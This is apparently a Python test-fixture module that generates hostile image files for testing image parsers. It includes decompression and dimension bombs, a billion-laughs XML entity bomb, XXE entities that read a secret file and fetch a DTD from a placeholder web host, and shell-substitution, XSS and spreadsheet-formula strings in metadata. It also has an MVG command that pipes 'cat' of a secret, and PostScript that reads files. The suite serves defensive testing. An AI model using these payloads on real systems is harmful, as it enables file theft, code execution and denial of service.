"""Pictures that claim more points than memory, unpack to more than memory, or name something else."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

from tests.hostile.making import Files


def oversized() -> Files:
    """Small files of pictures that claim to be huge."""
    return {
        "wide.png": png(0x7FFFFFFF, 0x7FFFFFFF),
        "square.png": png(60_000, 60_000),
        "bomb.png": png(12_000, 12_000, rows=12_000),
        "text-bomb.png": png(8, 8, rows=8, extra=_chunk(b"zTXt", b"Comment\0\0" + _squeezed(100 << 20))),
        "profile-bomb.png": png(8, 8, rows=8, extra=_chunk(b"iCCP", b"profile\0\0" + _squeezed(100 << 20))),
        "wide.gif": b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6) + _gif_frames(50),
        "wide.jpg": jpeg(65500, 65500),
        "wide.bmp": b"BM"
        + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 1 << 30, 1 << 30, 1, 24, 0, 0, 0, 0, 0, 0)
        + bytes(46),
        "wide.tif": tiff(0x7FFFFFFF, 0x7FFFFFFF),
        "loop.tif": tiff(4, 4, next_at=8),
        "wide.webp": b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X\x0a\0\0\0" + bytes(4) + b"\xff" * 6 + bytes(8),
    }


def pointing(secret: str, web: str) -> Files:
    """Pictures with words in them that name a file, an address or a command."""
    said = PngImagePlugin.PngInfo()
    said.add_text("Software", f"$(cat {secret})\x1b]0;x\x07<img src={web}/p.gif>")
    said.add_itxt("XML:com.adobe.xmp", f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}">]><x>&s;</x>')
    Image.new("RGB", (32, 24), (10, 120, 40)).save(words := io.BytesIO(), "PNG", pnginfo=said)
    facts = Image.Exif()
    facts[0x010F], facts[0x0110], facts[0x0131] = "<script>alert(1)</script>", "\u202e=cmd|' /C calc'!A0", f"{web}\n"
    Image.new("RGB", (32, 24), (120, 10, 40)).save(exif := io.BytesIO(), "JPEG", exif=facts)
    svg = (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE svg [<!ENTITY s SYSTEM "file://{secret}"><!ENTITY % d SYSTEM "{web}/d.dtd">%d;]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
        f'<script href="{web}/x.js">alert(2)</script><image xlink:href="{web}/p.png"/><image href="file://{secret}"/>'
        f"<style>@import url({web}/a.css); rect {{ fill: url({web}/f.svg#x) }}</style><text>&s;</text>"
        f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{web}/f.html"/></foreignObject>'
        f'<a xlink:href="javascript:alert(3)"><text>x</text></a><use href="{web}/u.svg#x"/></svg>\n'
    ).encode()
    return {
        "words.png": words.getvalue(),
        "words.jpg": exif.getvalue(),
        "active.svg": svg,
        "active-as.png": svg + b"<!-- -->",
        "laughs.svg": laughs("svg"),
        "vector.mvg": f"push graphic-context\nviewbox 0 0 9 9\nfill 'url({web}/x.png\"|cat {secret}\")'\n".encode(),
        "vector.eps": _postscript(f"({secret}) (r) file 99 string readstring"),
        "vector-as.jpg": _postscript(f"({secret}) run"),
    }


def png(width: int, height: int, *, rows: int = 0, extra: bytes = b"") -> bytes:
    """A grey picture with `rows` rows of black in it, whatever it claims."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + _chunk(b"IDAT", _squeezed(rows * (width + 1))) + _chunk(b"IEND", b"")


def jpeg(width: int, height: int) -> bytes:
    """A small picture with another size written over its own."""
    Image.new("L", (16, 16)).save(made := io.BytesIO(), "JPEG")
    data = made.getvalue()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def tiff(width: int, height: int, *, next_at: int = 0) -> bytes:
    """One grey picture; `next_at` is where the next directory is said to be."""
    tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 200), (277, 3, 1)]
    tags += [(278, 4, height), (279, 4, 0x7FFFFFFF)]
    table = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return (b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + table + struct.pack("<I", next_at)).ljust(300, b"\0")


def _postscript(words: str) -> bytes:
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{words}\n".encode()


def laughs(root: str) -> bytes:
    """Entities that stand for ten of each other, ten deep: a gigabyte when a parser believes them."""
    names = [f"e{n}" for n in range(10)]
    entities = "".join(
        f'<!ENTITY {name} "{"&" + names[n - 1] + ";" if n else "ha"}{("&" + names[n - 1] + ";") * 9 if n else ""}">'
        for n, name in enumerate(names)
    )
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{entities}]>\n<{root}>&{names[-1]};</{root}>\n'.encode()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _squeezed(count: int) -> bytes:
    """Zeros, compressed piece by piece."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    out = [packer.compress(piece[: min(1 << 20, count - at)]) for at in range(0, count, 1 << 20)]
    return b"".join(out) + packer.flush()


def _gif_frames(count: int) -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x4c\x01\x00"
    return frame * count + b";"
